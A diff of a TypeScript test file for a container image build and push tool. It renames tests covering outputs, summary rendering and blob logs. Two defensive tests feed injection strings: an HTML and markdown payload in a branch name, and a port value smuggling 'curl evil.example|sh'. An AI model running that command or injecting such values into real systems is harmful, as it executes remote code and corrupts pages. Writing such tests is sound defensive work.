@@ -54,13 +54,13 @@ test('the outputs name the image by its digest, and every name with every tag', 
   });
 });
 
-test('an image without a name has a digest all the same', async () => {
+test('an image without a name still has a digest', async () => {
   const { sets } = await aResult();
   const outputs = outputsOf(await aResult({ sets: sets.map((set) => ({ ...set, names: [] })), pushed: false }), LINES);
   expect(outputs).toMatchObject({ image: '', repository: '', tags: '', digest: expect.stringMatching(/^sha256:/) });
 });
 
-test('the page shows the image, its layers and each choice with its reason', async () => {
+test('the summary shows the image, its layers and each choice with its reason', async () => {
   const result = await aResult();
   const choices = [{ what: 'tag', value: '1.0', because: 'the tag v1.0' }];
   const page = summaryOf({ result, outputs: outputsOf(result, LINES), choices, delivered: [] });
@@ -69,7 +69,7 @@ test('the page shows the image, its layers and each choice with its reason', asy
   expect(page).toMatch(/base \(1 layers\).*█/);
 });
 
-test('several images are drawn below what stands for them, and listed in the outputs', async () => {
+test('several images are drawn below their index, and listed in the outputs', async () => {
   const layers = [await makeLayer({ files: { b: 'b' } })];
   const images = ['amd64', 'arm64'].map((architecture) => makeImage(layers, { os: 'linux', architecture }));
   const bases = ['mcr.microsoft.com/dotnet/aspnet:10.0@sha256:2', 'mcr.microsoft.com/dotnet/aspnet:10.0@sha256:2'];
@@ -95,7 +95,7 @@ test('several images are drawn below what stands for them, and listed in the out
   expect(lines[at + 4]).toMatch(/^└─ linux\/amd64 .*aspnet:10\.0-alpine$/);
 });
 
-test('of several projects the outputs name the first, and list all by name', async () => {
+test('with several projects the outputs name the first, and list all by name', async () => {
   const setOf = async (name: string) => {
     const image = makeImage([await makeLayer({ files: { name } })]);
     return { ...named(tagged(image, ['1.0']), `ghcr.io/o/${name}`), project: `src/${name}.csproj`, bases: [''] };
@@ -110,7 +110,7 @@ test('of several projects the outputs name the first, and list all by name', asy
   expect(page).toMatch(/^ghcr\.io\/o\/orders: 1\.0 {2}sha256:/m);
 });
 
-test('a branch cannot write markup into the page', async () => {
+test('a branch name cannot write markup into the summary', async () => {
   const result = await aResult();
   const evil = '<img src=x onerror=1>|`[link](https://evil.example)\n# heading';
   const choices = [{ what: 'tag', value: evil, because: `the branch ${evil}` }];
@@ -148,7 +148,7 @@ test.each([
   expect(quiet.split('\n').filter((line) => line.startsWith('```'))).toHaveLength(4);
 });
 
-test('what a base image exposes and runs as becomes no command of a later step', async () => {
+test('ports and user of a base cannot become a command of a later step', async () => {
   const evil = ['8080:8080 x; curl evil.example|sh #\n```\n# Approved', '99999/tcp', '0/tcp', '8443/tcp'];
   const ports = Object.fromEntries(evil.map((port) => [port, {}]));
   const layers = [await makeLayer({ files: { b: 'b' } })];
@@ -163,7 +163,7 @@ test('what a base image exposes and runs as becomes no command of a later step',
   expect(page).not.toContain('evil');
 });
 
-test('the log has a line for each blob, with what became of it and why', async () => {
+test('the log has a line for each blob, with its result and the reason', async () => {
   const image = onlyImage(await aResult());
   const { digest, size } = image.config.descriptor;
   const blobs = [{ digest, size, kind: 'config', action: 'sent', because: 'it is new' }] as const;
@@ -171,11 +171,11 @@ test('the log has a line for each blob, with what became of it and why', async (
   expect(lines[0]).toMatch(/^ghcr\.io\/o\/app: \d+ B sent, 1 sent, 0 mounted, 0 already there \(new\)$/);
   expect(lines[1]).toMatch(/sent +config +\d+ B +sha256:[0-9a-f]{12} +\(it is new\)/);
   expect(describeImage(image)).toMatch(
-    /^Image sha256:[0-9a-f]{64} \(linux\/amd64\): \d+ B, 1 layers of the base and \d+ B in 1 of ours$/,
+    /^Image sha256:[0-9a-f]{64} \(linux\/amd64\): \d+ B, 1 base layers and \d+ B in 1 application layers$/,
   );
 });
 
-test('what docker’s actions say of an image is said in their words', async () => {
+test('the output metadata has the names that docker’s actions use', async () => {
   const result = await aResult();
   const image = onlyImage(result);
   const { mediaType, digest, size } = image.manifest.descriptor;
@@ -194,14 +194,14 @@ test('what docker’s actions say of an image is said in their words', async () 
   expect(outputs).toMatchObject({ version: '1.0', changed: 'true', 'subject-checksums': '/t/subjects.sha256' });
 });
 
-test('what the tags go on standing for is what the outputs name', async () => {
+test('the outputs name what the tags still point to', async () => {
   const kept = `sha256:${'a'.repeat(64)}` as const;
   const { sets } = await aResult();
   const result = await aResult({ sets: sets.map((set) => ({ ...set, tags: [], kept })), pushed: false });
   expect(outputsOf(result, LINES)).toMatchObject({ digest: kept, image: `ghcr.io/o/app@${kept}`, tags: '' });
 });
 
-test('subjects are lines of sha256sum, each once', () => {
+test('subjects have the format of sha256sum, each once', () => {
   const digest = `sha256:${'b'.repeat(64)}` as const;
   const lines = checksumsOf([
     { name: 'ghcr.io/o/app', digest },
